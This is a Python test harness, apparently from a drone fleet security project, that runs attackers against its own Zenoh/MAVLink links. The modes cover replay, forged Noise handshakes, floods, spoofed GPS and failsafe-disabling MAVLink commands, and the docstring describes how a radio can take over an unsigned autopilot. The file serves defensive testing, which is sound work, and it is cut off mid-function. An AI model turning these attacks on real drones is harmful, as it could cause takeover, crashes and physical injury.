"""TESTBED ONLY: attackers for the demo scenarios, the tests and ``zdrone bench attack``.

Each attacker is its own process with real credentials taken from the demo's fleet directory (what
it is allowed to hold is stated per mode) and writes what it did to its events file, so that a
scenario can check both sides: what the attacker sent and what the nodes refused.

``no-key``: has GS A's *router* password (stolen) but not A's static key nor any link key. It
tries to pair as A with its own key, publishes unsealed MAVLink commands and forged envelopes on
``zdrone/<drone>/up/A``, and replays sealed frames it captured (with the drone's stolen router
password it can listen to ``up/A``; with A's it can publish there). Every attempt must end as a
counted drop at the drone (``unknown_epoch``, ``auth_failed``, ``replay``) or a failed handshake.
It also tries the router with a wrong password (refused at connect).

``unauthorized``: GS X, a fleet member with its own keys and router account, not authorized for the
drone. It tries to pair (refused by the handover authority), to fetch B's link key over the
backhaul (the router's ACL gives it no reply) and to publish on A's key (denied by the ACL).

``key-injection``: B's router password only. Declares B's key-sharing queryable
``backhaul/B/linkkey/*`` next to the real B's and answers every query with forged replies: random
64-80 bytes, and a well-formed Noise KK message 2 made with its own static key. The asker must
refuse both (``linkkey_reply:auth_failed``) and still get the real B's key.

``linkkey-knockout``: B's router password only. Sends key-sharing queries to A claiming to be B:
Noise message 1 made with its own static key, and junk payloads. A must refuse them
(``linkkey_refused:auth_failed`` / ``malformed`` / ``rate_limited``) without touching its live link.

``pair-replay``: the drone's and A's router passwords. Before A starts it declares a queryable on
``zdrone/<drone>/pair/A`` (allowed to the drone's account) and captures A's genuine pairing
message 1; when told to attack it replays it as A every second. The drone answers (Noise KK cannot
tell a replay) but the key stays a candidate nobody proves, and expires.

``pair-flood``: B's private key and router password (an authorized GS that does not hold authority).
Sends valid Noise KK pairing queries as B as fast as ``--rate`` asks (non-blocking ``session.get``
with a no-op callback, from a pool of pre-computed messages 1) and logs the rate achieved. The
drone must refuse nearly all before any crypto (``pair_refused:rate_limited``) and keep its loop.

``uplink-sealed``: B's private key and router password. When told to attack (after both hand-overs,
authority back with A), it pairs with the drone as B, proves the new key with sealed HEARTBEATs, and
sends every dangerous message id sealed on its link. The handover authority must drop them
(``not_authority``, ``denied_by_policy``): B is linked but not the authority.

``uplink-unsealed``: A's router password only. Publishes the same dangerous ids on ``up/A``,
unsealed and sealed with a random key: dropped by the security module before the authority.

``big-flood``: B's router password only. Sends oversized payloads everywhere B's account may:
envelopes on ``zdrone/<drone>/up/B``, pairing queries to the drone as B and key-sharing queries to A
(60 KiB each, ``--rate`` per second of each), and one 4 MiB message of each kind per second. The
router drops messages over 64 KiB; the nodes refuse the rest by their length before copying them
(``up:oversize``, ``pair_refused:oversize``, ``linkkey_refused:oversize``) and fly on.

``junk-flood``: B's router password only. Publishes junk envelopes on ``zdrone/<drone>/up/B`` as fast
as ``--rate`` asks (default 80 000/s), paced in 5 ms slices: 40 random bytes whose epoch byte is, in
turn, 0 and 1 (the live epoch and the next one of a fresh link: each costs the drone one AEAD
attempt) and any other value (unknown epoch). The router cuts the key to its rate limit; GS A's
link, on its own key, must stay OK.

``gateway-flood``: a local process on GS A's machine (no credentials). Sends HEARTBEATs from 300+
distinct UDP source ports and garbage datagrams to A's GCS gateway; A must keep flying and count
the applications it refused (``app_table_full``).

``no-cert``: a fleet with mutual TLS (``--tls``, ``--sites``). A's stolen router password, and in
turn: no client certificate at all (its own Zenoh configuration, trusting the fleet CA for the
router), a certificate for "A" from a CA of its own, and X's real certificate and key (a fleet
member, not A). The first two must be refused at connect; with X's certificate the router's ACL
wants CN *and* user to be A, so nothing it publishes on A's keys arrives and its pairing query as A
gets no answer.

``insider-heir``: B's private key, router password and certificate (an authorized GS, malicious or
compromised), connected where B is (with sites: B's own site router; the backhaul mesh carries its
frames to the drone). It pairs as B again and again in flight, every ``PAIR_EVERY_S``, from outside
B's coverage, proves each key with a burst of sealed HEARTBEATs (then 5/s), and sends RETURN_TO_LAUNCH commands
twice a second; once the drone reports B as the authority, or is in its failsafe, it also asks for
control (``HANDOVER_REQUEST`` for itself), and once in command it also sends ARM and TAKEOFF. The drone must never make it the authority while the
vehicle is outside B's coverage (it is, from take-off on, while GS A hangs): failsafe, or A keeps it.

``key-escrow``: B's private key and router password, and the drone's router password (the attacker
is assumed to hold every password). It sends GS A genuine key-sharing queries for link (drone, A),
one every 1-2 s for ``--duration`` (B is authorized for the drone: A answers whenever it answers
anyone), and under each secret A hands out injects sealed frames on ``down/<drone>/A`` as if from
the drone (and on ``up/<drone>/A`` as if from A).
A must not let that secret replace its live link (``link_confirmed`` at A): were it to, A would seal
under a key the drone never had and the drone would go into its failsafe.

``stale-pairing``: the drone's and A's router passwords. From before A starts, a queryable on
``zdrone/<drone>/pair/A`` (the drone's account) records every pairing message 1 A sends, all flight
long (never answered: the real drone answers A); it also holds ``--recorded`` message 1s of A recorded in
earlier flights (made with the genuine pairing code when the attacker starts, i.e. before this
flight, and never made again). When told (right after a companion restart) it replays them as A: a
few every 10 ms until the restarted drone answers one, then each one not yet answered every 0.1 s
(newest first; those A sends meanwhile too), for ``--duration``. A replay must spend none of
A's pairing tokens: the owner re-pairs at once and the drone never goes into its failsafe.

``fc-radio``: no credentials at all, only a radio on the autopilot's second MAVLink port (TELEM2,
``--fc-port``: the simulator's ``--telem2`` endpoint). It sends HEARTBEATs as a GCS, learns the
autopilot from its telemetry, and when told to attack sends COMMAND_LONG arm, a mode change to LAND
and MISSION_CLEAR_ALL once a second, and counts the answers. With the flight controller's link
signed none may be obeyed (no answer at all); without signing the autopilot obeys it: the takeover.

``fake-autopilot``: no credentials at all, only a process on the companion host that can write into
the drone's UDP vehicle link (``--vehicle-port``: where the companion listens for its autopilot, as on
PX4's onboard link). From before the drone starts it sends the HEARTBEAT of a fake autopilot (sysid
``FAKE_AUTOPILOT_SYSID``) and positions at B's centre, 50 a second, racing the real autopilot; when
told to attack (in flight) it sends, with the autopilot's own ids (the drone's sysid, component 1),
HEARTBEATs in LAND mode, GLOBAL_POSITION_INT at B's centre at 30 m, a 3D GPS fix and "in air", 20 a
second (without ``--wait-go``: races for half of ``--duration``, forges for the other half). It counts everything the companion sends it (a naive link adopts it and sends it the signing
key, the stream requests, the failsafe). The drone must never adopt it, never send it anything, and
its coverage and authority must never follow the forged positions.

``local-app``: a local process on GS A's machine (no key), an unsigned MAVLink application on A's GCS
gateway (``--gcs-port``; A runs ``--gcs-signing require``). When told to attack (A holds authority,
the drone in the overlap), A's own operator application, signed with its key (``--gcs-keys``: the
control), holds the vehicle there and sends a command; B's operator (``--gcs-port-b``) asks for
control; once A's applications are shown B's request, the attacker (a fresh UDP socket, sysid 42)
consents (p1 = 0, p4 = B), allows takeover (p1 = 1, p2 = 1), sends LAND (mode and NAV_LAND), disarm,
MISSION_CLEAR_ALL and SET_MODE, a consent signed with a key of its own guessing, and reads a
parameter, three rounds a second apart. Then the signed application resumes the mission. Nothing the
attacker sends may move authority or reach the vehicle; its reads are answered; the signed
application's commands are obeyed.

Modes that take ``--wait-go`` set up, print ``ready``, and attack when they receive SIGUSR2 (the
launcher sends it at the scenario's moment). All modes stop at SIGTERM or after ``--duration``.

Run: ``python -m zdrone.sil.rogue --mode MODE --fleet DIR --router EP --events FILE``.
"""

from __future__ import annotations

import argparse
import json
import logging
import os
import queue
import random
import signal
import socket
import sys
import tempfile
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import msgspec
import zenoh
from cryptography.hazmat.primitives import serialization
from pymavlink.dialects.v20 import common as mav

from ..core import fcsign
from ..core.envelope import Opened, SecureLink
from ..core.fleet import ConfigError, Fleet
from ..core.keys import Identity, LinkKey
from ..core.keyshare import KeyShareAsk, LinkKeyQuery, _prologue as linkkey_prologue, decode_query
from ..core.kk import KKInitiator, respond as kk_respond
from ..core.mavlink import FrameCodec
from ..core.pairing import PairingInitiator
from ..core import wire
from ..fleet.files import load_fleet, load_secret, load_sites
from ..fleet import keyexprs as kx
from ..fleet.routerconfig import UPLINK_MAX_HZ
from ..fleet.tls import issue, make_ca, node_files
from ..net.eventlog import EventLog
from . import records as trec
from ..net.session import open_client

log = logging.getLogger(__name__)

MODES = ("no-key", "unauthorized", "key-injection", "linkkey-knockout", "pair-replay", "pair-flood",
         "uplink-sealed", "uplink-unsealed", "gateway-flood", "big-flood", "junk-flood", "no-cert", "insider-heir",
         "key-escrow", "stale-pairing", "fc-radio", "fake-autopilot", "local-app")
ROGUE_COMPID = 190
#: The fc-radio attacker's MAVLink system id (a GCS nobody configured).
FC_RADIO_SYSID = 250
#: The fake-autopilot attacker's own system id (issue 29: a fake autopilot "system 7").
FAKE_AUTOPILOT_SYSID = 7
#: How long a ``--wait-go`` attacker waits for its signal before giving up.
GO_TIMEOUT = 600.0


#: The uplink attackers space their frames above the router's limit (UPLINK_MAX_HZ over an uplink's
#: lanes, which they take in turn, as a GS does), so that every frame reaches the drone and is
#: refused there, by the checks under test.
UPLINK_GAP_S = 1.5 / UPLINK_MAX_HZ
#: The lane each uplink's next frame goes on.
_next_lane: dict[tuple[str, str], int] = {}


def _up(drone: str, gs: str) -> str:
    """The key of the next lane of uplink (drone, gs): an attacker uses them in turn, as a GS does."""
    lane = _next_lane.get((drone, gs), 0)
    _next_lane[(drone, gs)] = (lane + 1) % kx.UP_LANES
    return kx.up_lane(drone, gs, lane)


@dataclass
class Ctx:
    """What every attacker gets: the fleet directory, the router, its events file and its signals."""

    fleet_dir: str
    router: str
    drone: str
    events: EventLog
    duration: float
    rate: float
    gcs_port: int | None
    wait_go: bool
    replies: int = 1  # key-injection: forged replies of each kind per query
    recorded: int = 8  # stale-pairing: message 1s of A recorded in earlier flights
    fc_port: int | None = None  # fc-radio: the autopilot's TELEM2 UDP port
    vehicle_port: int | None = None  # fake-autopilot: the UDP port the companion listens on for its autopilot
    gcs_port_b: int | None = None  # local-app: GS B's gateway (B's operator asks for control there)
    gcs_keys: str | None = None  # local-app: A's application key file (its own operator's signed application)
    stop: threading.Event = field(default_factory=threading.Event)
    go: threading.Event = field(default_factory=threading.Event)
    _fleet: Fleet | None = None

    @property
    def fleet(self) -> Fleet:
        if self._fleet is None:
            self._fleet = load_fleet(self.fleet_dir)
        return self._fleet

    def password(self, node: str) -> str:
        """A stolen router password (the secret file also holds the private key: not used)."""
        return load_secret(self.fleet_dir, node).router_password

    def ready(self) -> None:
        print("rogue: ready", flush=True)
        self.events.write_record(trec.RogueReady(wait_go=self.wait_go))

    def wait_for_go(self) -> bool:
        """Block until SIGUSR2 (if ``--wait-go``); False if told to stop first."""
        if not self.wait_go:
            return not self.stop.is_set()
        deadline = time.monotonic() + GO_TIMEOUT
        while not self.stop.is_set() and time.monotonic() < deadline:
            if self.go.wait(0.05):
                self.events.write_record(trec.RogueGo())
                return True
        self.events.write_record(trec.RogueNoGo(stopped=self.stop.is_set()))
        return False

    def attack_window(self) -> Callable[[], bool]:
        """A predicate: True while the attack should go on (``--duration`` from now, no SIGTERM)."""
        deadline = time.monotonic() + self.duration
        return lambda: not self.stop.is_set() and time.monotonic() < deadline


def _land(sysid: int) -> bytes:
    return FrameCodec(sysid, ROGUE_COMPID).encode(
        mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_NAV_LAND, 0, 0, 0, 0, float("nan"), float("nan"), float("nan"), float("nan")))


def dangerous_messages(target: int) -> list[tuple[str, Any]]:
    """Every message a GS without authority must never get to the vehicle (name, pymavlink message)."""
    nan = float("nan")
    return [
        ("SERIAL_CONTROL", mav.MAVLink_serial_control_message(10, 6, 0, 0, 8, list(b"reboot\n\0") + [0] * 62)),
        ("SETUP_SIGNING", mav.MAVLink_setup_signing_message(target, 1, list(os.urandom(32)), 1)),
        ("SET_GPS_GLOBAL_ORIGIN", mav.MAVLink_set_gps_global_origin_message(target, 473000000, 85000000, 500000, 0)),
        ("GPS_INPUT", mav.MAVLink_gps_input_message(0, 0, 0, 0, 0, 3, 473000000, 85000000, 500.0, 1.0, 1.0, 0, 0, 0,
                                                    0.1, 1.0, 1.0, 12, 0)),
        ("VISION_POSITION_ESTIMATE", mav.MAVLink_vision_position_estimate_message(0, 100.0, 100.0, -30.0, 0, 0, 0)),
        ("FILE_TRANSFER_PROTOCOL", mav.MAVLink_file_transfer_protocol_message(0, target, 1, [0] * 251)),
        ("PARAM_EXT_SET", mav.MAVLink_param_ext_set_message(target, 1, b"COM_DL_LOSS_T", b"1", mav.MAV_PARAM_EXT_TYPE_INT32)),
        ("SET_ACTUATOR_CONTROL_TARGET", mav.MAVLink_set_actuator_control_target_message(0, 0, target, 1, [1.0] * 8)),
        ("LOG_ERASE", mav.MAVLink_log_erase_message(target, 1)),
        ("COMMAND_LONG DO_REPOSITION", mav.MAVLink_command_long_message(target, 1, mav.MAV_CMD_DO_REPOSITION, 0, -1, 1, 0, nan,
                                                                        47.40, 8.56, 50.0)),
        ("SET_MODE", mav.MAVLink_set_mode_message(target, mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, 4 << 16 | 6 << 24)),
        ("PARAM_SET", mav.MAVLink_param_set_message(target, 1, b"NAV_DLL_ACT", 0.0, mav.MAV_PARAM_TYPE_INT32)),
    ]


def _heartbeat() -> Any:
    return mav.MAVLink_heartbeat_message(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, mav.MAV_STATE_ACTIVE, 3)


class _Replies:
    """Counts query replies by outcome (``ok`` / the error text); filled on Zenoh's threads."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.counts: Counter[str] = Counter()
        self.ok_payloads: "queue.SimpleQueue[bytes]" = queue.SimpleQueue()

    def __call__(self, reply: Any) -> None:
        try:
            if reply.ok is not None:
                key = "ok"
                self.ok_payloads.put(reply.ok.payload.to_bytes())
            else:
                key = "err:" + (reply.err.payload.to_bytes().decode(errors="replace").split(":")[0][:40] if reply.err else "?")
        except Exception:  # never raise into Zenoh
            key = "unreadable"
        with self._lock:
            self.counts[key] += 1

    def snapshot(self) -> dict[str, int]:
        with self._lock:
            return dict(self.counts)


# ------------------------------------------------------------------- the attackers
def no_key(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    try:
        open_client(c.router, "A", "not-the-password").close()
        c.events.write_record(trec.RouterAcceptedWrongPassword())
    except ConfigError:
        c.events.write_record(trec.RouterRefused(user="A"))
    s_pub = open_client(c.router, "A", c.password("A"))
    s_cap = open_client(c.router, drone, c.password(drone))
    captured: queue.SimpleQueue[bytes] = queue.SimpleQueue()
    caps = [s_cap.declare_subscriber(lane, lambda smp: captured.put(smp.payload.to_bytes()))
            for lane in kx.up_lanes(drone, "A")]
    try:
        c.ready()
        fake = Identity.generate()
        ini = PairingInitiator(fake, "A", drone, fleet.nodes[drone].public_bytes)
        replies = list(s_pub.get(kx.pair(drone, "A"), payload=ini.start(), timeout=3.0))
        c.events.write_record(trec.PairAttempt(answered=sum(1 for r in replies if r.ok is not None)))
        forged = SecureLink(key=LinkKey.from_secret(drone, "A", os.urandom(32)), role="gs", tx_keyexpr=kx.up(drone, "A"),
                            rx_keyexpr=kx.down(drone, "A"), peer_sysid=None, now=0.0)
        sysid_a = fleet.nodes["A"].sysid
        sent = {"plain": 0, "forged": 0, "replayed": 0}
        going = c.attack_window()
        while going():  # each frame spaced above the router's per-key minimum gap: every one reaches the drone
            s_pub.put(_up(drone, "A"), _land(sysid_a))
            sent["plain"] += 1
            time.sleep(UPLINK_GAP_S)
            s_pub.put(_up(drone, "A"), forged.seal(_land(sysid_a)))
            sent["forged"] += 1
            for _ in range(4):
                time.sleep(UPLINK_GAP_S)
                try:
                    frame = captured.get_nowait()
                except queue.Empty:
                    break
                s_pub.put(_up(drone, "A"), frame)
                sent["replayed"] += 1
            c.stop.wait(0.2)
        c.events.write("attack_done", **sent)
    finally:
        for cap in caps:
            cap.undeclare()
        s_cap.close()
        s_pub.close()


def unauthorized(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    me = load_secret(c.fleet_dir, "X", fleet)
    s = open_client(c.router, "X", me.router_password)
    try:
        c.ready()
        going = c.attack_window()
        tries = 0
        while going():
            ini = PairingInitiator(me.identity, "X", drone, fleet.nodes[drone].public_bytes, stamp=time.time())
            refused = answered = 0
            for r in s.get(kx.pair(drone, "X"), payload=ini.start(), timeout=3.0):
                answered += r.ok is not None
                refused += r.err is not None
            ask = KeyShareAsk(me.identity, "X", "B", fleet.nodes["B"].public_bytes, drone, 0.0)
            keys = [r for r in s.get(kx.linkkey("B", drone), payload=ask.payload, timeout=2.0) if r.ok is not None]
            s.put(_up(drone, "A"), _land(fleet.nodes["X"].sysid))  # denied by the router's ACL
            s.put(_up(drone, "X"), _land(fleet.nodes["X"].sysid))  # nobody listens: X has no link
            tries += 1
            c.events.write_record(trec.UnauthorizedAttempt(pair_answered=answered, pair_refused=refused, linkkey_replies=len(keys)))
            c.stop.wait(1.0)
        c.events.write("attack_done", tries=tries)
    finally:
        s.close()


def _forged_message2(drone: str, owner: str, asker: str) -> bytes:
    """A well-formed Noise KK message 2 for (drone, owner, asker) made with the attacker's own static
    key (it lacks the owner's): right length and structure, wrong keys."""
    me, other = Identity.generate(), Identity.generate()
    prologue = linkkey_prologue(drone, owner, asker)
    m1 = KKInitiator(other, me.public, prologue).message1
    m2 = kk_respond(me, other.public, prologue, m1, os.urandom(32))
    assert m2 is not None
    return m2


def key_injection(c: Ctx) -> None:
    s = open_client(c.router, "B", c.password("B"))
    qable = s.declare_queryable(kx.linkkey_all("B"), zenoh.handlers.RingChannel(256))
    sent: Counter[str] = Counter()
    askers: Counter[str] = Counter()
    # made ahead, so that the forged replies leave before the real B has computed its own
    forged = {(g, c.drone): [_forged_message2(c.drone, "B", g) for _ in range(c.replies)] for g in c.fleet.ground_stations()}
    try:
        c.ready()
        rng = random.Random()
        going = c.attack_window()
        while going():
            q = qable.try_recv()
            if q is None:
                c.stop.wait(0.001)
                continue
            try:
                drone = kx.gs_of(q.key_expr)
                req = decode_query(q.payload.to_bytes() if q.payload is not None else b"")
                asker = req.asker if isinstance(req, LinkKeyQuery) else "?"
                askers[asker] += 1
                made = forged.get((asker, drone)) or [_forged_message2(drone, "B", asker) for _ in range(c.replies)]
                for m2 in made:
                    q.reply(q.key_expr, os.urandom(rng.randint(64, 80)))  # random bytes
                    sent["random"] += 1
                    q.reply(q.key_expr, m2)  # well-formed, made with its own static key
                    sent["noise_own_key"] += 1
                c.events.write_record(trec.ForgedReply(drone=drone, asker=asker, replies=2 * c.replies))
            except zenoh.ZError as exc:
                sent["reply_error"] += 1
                log.info("reply failed: %s", exc)
            finally:
                q.drop()
        c.events.write("attack_done", queries=sum(askers.values()), askers=dict(askers), **sent)
    finally:
        qable.undeclare()
        s.close()


def junk_queries(rng: random.Random) -> list[bytes]:
    """Payloads a key-sharing queryable must refuse as malformed: random bytes, and msgpack that is
    almost a ``LinkKeyQuery`` (invalid UTF-8 in the name, wrong types, missing or extra fields, an
    oversized message 1, a truncated map)."""
    enc = msgspec.msgpack.Encoder()
    return [
        rng.randbytes(rng.randint(1, 200)),
        b"\x82\xa5asker\xa2\xff\xfe\xa2m1\xc4\x01\x00",  # the name is not UTF-8
        enc.encode({"asker": 1, "m1": "x"}),
        enc.encode({"asker": "B"}),
        enc.encode({"asker": "B", "m1": b"\0" * 48, "extra": 1}),
        enc.encode({"asker": "B", "m1": rng.randbytes(4096)}),
        enc.encode({"asker": "B", "m1": b"\0" * 48})[:-20],
    ]


def linkkey_knockout(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    s = open_client(c.router, "B", c.password("B"))
    replies = _Replies()
    sent: Counter[str] = Counter()
    rng = random.Random(5)
    try:
        c.ready()
        if not c.wait_for_go():
            return
        going = c.attack_window()
        period = 1.0 / c.rate
        encoder = msgspec.msgpack.Encoder()
        i = 0
        while going():
            fake = Identity.generate()  # claims to be B without B's private key
            m1 = KKInitiator(fake, fleet.nodes["A"].public_bytes, linkkey_prologue(drone, "A", "B")).message1
            s.get(kx.linkkey("A", drone), replies, payload=encoder.encode(LinkKeyQuery("B", m1)), timeout=2.0)
            sent["forged_m1"] += 1
            junk = junk_queries(rng)
            s.get(kx.linkkey("A", drone), replies, payload=junk[i % len(junk)], timeout=2.0)
            sent["junk"] += 1
            i += 1
            c.stop.wait(period)
        c.stop.wait(2.0)  # the last replies
        c.events.write("attack_done", replies=replies.snapshot(), **sent)
    finally:
        s.close()


def pair_replay(c: Ctx) -> None:
    drone = c.drone
    s_cap = open_client(c.router, drone, c.password(drone))  # the drone's account may declare pair/*
    qable = s_cap.declare_queryable(kx.pair(drone, "A"), zenoh.handlers.RingChannel(16))
    s_a = open_client(c.router, "A", c.password("A"))
    captured: list[bytes] = []
    replies = _Replies()
    try:
        c.ready()
        deadline = time.monotonic() + GO_TIMEOUT
        while not captured and not c.stop.is_set() and time.monotonic() < deadline:
            q = qable.try_recv()
            if q is None:
                c.stop.wait(0.002)
                continue
            if q.payload is not None:
                captured.append(q.payload.to_bytes())
            q.drop()  # no reply: the genuine drone answers A
        qable.undeclare()
        if not captured:
            c.events.write_record(trec.NothingCaptured())
            return
        c.events.write_record(trec.Captured(what="pairing message 1 of A", bytes_=len(captured[0])))
        if not c.wait_for_go():
            return
        going = c.attack_window()
        replayed = 0
        while going():
            s_a.get(kx.pair(drone, "A"), replies, payload=captured[0], timeout=2.0)
            replayed += 1
            c.stop.wait(1.0)
        c.stop.wait(2.0)
        c.events.write("attack_done", replayed=replayed, replies=replies.snapshot())
    finally:
        s_a.close()
        s_cap.close()


def pair_flood(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    me = load_secret(c.fleet_dir, "B", fleet)  # B's private key and router password
    s = open_client(c.router, "B", me.router_password)
    replies = _Replies()
    key = kx.pair(drone, "B")
    try:
        c.ready()
        if not c.wait_for_go():
            return
        # genuine, fresh message 1s (stamped now: the drone refuses stale ones before anything else)
        pool = [PairingInitiator(me.identity, "B", drone, fleet.nodes[drone].public_bytes, stamp=time.time()).start()
                for _ in range(64)]
        print(f"rogue: flooding at {c.rate:.0f} queries/s for {c.duration:.0f} s", flush=True)
        c.events.write_record(trec.FloodStart(target_rate=c.rate))
        t0 = time.monotonic()
        going = c.attack_window()
        sent = 0
        chunk = max(1, int(c.rate / 200))  # paced in 5 ms slices
        while going():
            due = int((time.monotonic() - t0) * c.rate)
            if sent >= due:
                time.sleep(0.0005)
                continue
            for _ in range(min(chunk * 4, due - sent)):
                s.get(key, replies, payload=pool[sent % len(pool)], timeout=1.0)
                sent += 1
        elapsed = time.monotonic() - t0
        c.stop.wait(1.5)  # the last replies
        rate = sent / elapsed if elapsed > 0 else 0.0
        print(f"rogue: flood done: {sent} queries in {elapsed:.2f} s ({rate:.0f}/s)", flush=True)
        c.events.write("attack_done", sent=sent, seconds=round(elapsed, 3), rate=round(rate, 1), target_rate=c.rate,
                       t_start=round(time.time() - elapsed - 1.5, 4), replies=replies.snapshot())
    finally:
        s.close()




def uplink_sealed(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    me = load_secret(c.fleet_dir, "B", fleet)
    s = open_client(c.router, "B", me.router_password)
    down: queue.SimpleQueue[bytes] = queue.SimpleQueue()
    sub = s.declare_subscriber(kx.down(drone, "B"), lambda smp: down.put(smp.payload.to_bytes()))
    codec = FrameCodec(fleet.nodes["B"].sysid, ROGUE_COMPID)
    target = fleet.nodes[drone].sysid
    try:
        c.ready()
        if not c.wait_for_go():
            return
        ini = PairingInitiator(me.identity, "B", drone, fleet.nodes[drone].public_bytes, stamp=time.time())
        key = None
        refusals = []
        for r in s.get(kx.pair(drone, "B"), payload=ini.start(), timeout=2.0):
            if r.ok is not None and key is None:
                out = ini.finish(r.ok.payload.to_bytes())
                key = out if isinstance(out, LinkKey) else None
            elif r.err is not None:
                refusals.append(r.err.payload.to_bytes().decode(errors="replace")[:80])
        if key is None:
            c.events.write_record(trec.RoguePairFailed(refusals=refusals))
            return
        now = time.monotonic()
        link = SecureLink(key=key, role="gs", tx_keyexpr=kx.up(drone, "B"), rx_keyexpr=kx.down(drone, "B"),
                          peer_sysid=target, now=now)
        c.events.write_record(trec.PairedAs(gs="B"))
        for _ in range(3):  # the proof of the new key: authentic, read-only frames
            s.put(_up(drone, "B"), link.seal(codec.encode(_heartbeat())))
            time.sleep(UPLINK_GAP_S)
        sent: Counter[str] = Counter()
        going = c.attack_window()
        while going():
            for name, msg in dangerous_messages(target):
                s.put(_up(drone, "B"), link.seal(codec.encode(msg)))
                sent[name] += 1
                time.sleep(UPLINK_GAP_S)  # under the router's per-key rate: every frame reaches the drone
            s.put(_up(drone, "B"), link.seal(codec.encode(_heartbeat())))
            c.stop.wait(0.1)
        opened = 0
        while True:
            try:
                data = down.get_nowait()
            except queue.Empty:
                break
            opened += isinstance(link.open(data, time.monotonic()), Opened)
        c.events.write("attack_done", sealed=dict(sent), total=sum(sent.values()), drone_frames_opened=opened)
    finally:
        sub.undeclare()
        s.close()


def uplink_unsealed(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    s = open_client(c.router, "A", c.password("A"))
    codec = FrameCodec(fleet.nodes["A"].sysid, ROGUE_COMPID)
    target = fleet.nodes[drone].sysid
    try:
        c.ready()
        if not c.wait_for_go():
            return
        sent: Counter[str] = Counter()
        going = c.attack_window()
        while going():
            forged = SecureLink(key=LinkKey.from_secret(drone, "A", os.urandom(32)), role="gs",
                                tx_keyexpr=kx.up(drone, "A"), rx_keyexpr=kx.down(drone, "A"), peer_sysid=None, now=0.0)
            for _name, msg in dangerous_messages(target):
                frame = codec.encode(msg)
                s.put(_up(drone, "A"), frame)
                sent["unsealed"] += 1
                time.sleep(UPLINK_GAP_S)  # under the router's per-key rate: every frame reaches the drone
                s.put(_up(drone, "A"), forged.seal(frame))
                sent["random_key"] += 1
                time.sleep(UPLINK_GAP_S)
            c.stop.wait(0.5)
        c.events.write("attack_done", ids=len(dangerous_messages(target)), **sent)
    finally:
        s.close()


def gateway_flood(c: Ctx) -> None:
    if c.gcs_port is None:
        raise ConfigError("--gcs-port is required for gateway-flood")
    dest = ("127.0.0.1", c.gcs_port)
    socks: list[socket.socket] = []
    rng = random.Random(11)
    sent: Counter[str] = Counter()
    try:
        for _ in range(320):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind(("127.0.0.1", 0))
            sock.setblocking(False)
            socks.append(sock)
        c.ready()
        if not c.wait_for_go():
            return
        ports = {sock.getsockname()[1] for sock in socks}
        going = c.attack_window()
        while going():
            for i, sock in enumerate(socks):
                try:
                    sock.sendto(FrameCodec(1 + i % 249, 190 + i // 249).encode(_heartbeat()), dest)
                    sent["heartbeat"] += 1
                except OSError:
                    sent["send_failed"] += 1
                if i % 50 == 49:
                    time.sleep(0.01)  # let the gateway's socket buffer drain
            junk = socks[0]
            for n in (1, 7, 11, 20, 100, 280, 1400, 65000):
                try:
                    junk.sendto(rng.randbytes(n), dest)
                    junk.sendto(FrameCodec(9, 9).encode(_heartbeat())[: max(1, n % 21)], dest)
                    sent["garbage"] += 2
                except OSError:
                    sent["send_failed"] += 1
            c.stop.wait(1.0)
        c.events.write("attack_done", source_ports=len(ports), **sent)
    finally:
        for sock in socks:
            sock.close()


def big_flood(c: Ctx) -> None:
    drone = c.drone
    s = open_client(c.router, "B", c.password("B"))
    replies = _Replies()
    sent: Counter[str] = Counter()
    big, huge = os.urandom(60 * 1024), os.urandom(4 * 1024 * 1024)
    try:
        c.ready()
        if not c.wait_for_go():
            return
        going = c.attack_window()
        period, next_huge = 1.0 / c.rate, 0.0
        while going():
            s.put(_up(drone, "B"), big, congestion_control=zenoh.CongestionControl.DROP)
            s.get(kx.pair(drone, "B"), replies, payload=big, timeout=1.0)
            s.get(kx.linkkey("A", drone), replies, payload=big, timeout=1.0)
            sent["big"] += 3
            if time.monotonic() >= next_huge:
                next_huge = time.monotonic() + 1.0
                s.put(_up(drone, "B"), huge, congestion_control=zenoh.CongestionControl.DROP)
                s.get(kx.pair(drone, "B"), replies, payload=huge, timeout=1.0)
                s.get(kx.linkkey("A", drone), replies, payload=huge, timeout=1.0)
                sent["huge"] += 3
            c.stop.wait(period)
        c.stop.wait(1.5)  # the last replies
        c.events.write("attack_done", replies=replies.snapshot(), **sent)
    finally:
        s.close()


def junk_flood(c: Ctx) -> None:
    drone = c.drone
    s = open_client(c.router, "B", c.password("B"))
    rng = random.Random(19)
    pool = [bytes([e]) + rng.randbytes(39) for e in (0, 1, 7) for _ in range(64)]  # epochs 0, 1, unknown
    rng.shuffle(pool)
    keys = kx.up_lanes(drone, "B")  # every lane: the most the router lets through
    drop = zenoh.CongestionControl.DROP
    try:
        c.ready()
        if not c.wait_for_go():
            return
        print(f"rogue: flooding at {c.rate:.0f} puts/s for {c.duration:.0f} s", flush=True)
        c.events.write_record(trec.FloodStart(target_rate=c.rate))
        t0 = time.monotonic()
        going = c.attack_window()
        sent = 0
        while going():
            due = int((time.monotonic() - t0) * c.rate)
            if sent >= due:
                time.sleep(0.0005)
                continue
            for i in range(sent, min(due, sent + max(1, int(c.rate / 200)))):  # at most a 5 ms slice at once
                s.put(keys[i % len(keys)], pool[i % len(pool)], congestion_control=drop)
            sent = min(due, sent + max(1, int(c.rate / 200)))
        elapsed = time.monotonic() - t0
        rate = sent / elapsed if elapsed > 0 else 0.0
        print(f"rogue: flood done: {sent} puts in {elapsed:.2f} s ({rate:.0f}/s)", flush=True)
        c.events.write("attack_done", sent=sent, seconds=round(elapsed, 3), rate=round(rate, 1), target_rate=c.rate,
                       t_start=round(time.time() - elapsed, 4))
    finally:
        s.close()


def _tls_session(router: str, user: str, password: str, ca: Path, cert: Path | None, key: Path | None) -> zenoh.Session:
    """A client of its own making: the fleet CA trusted for the router, any (or no) certificate."""
    tls: dict[str, Any] = {"root_ca_certificate": str(ca)}
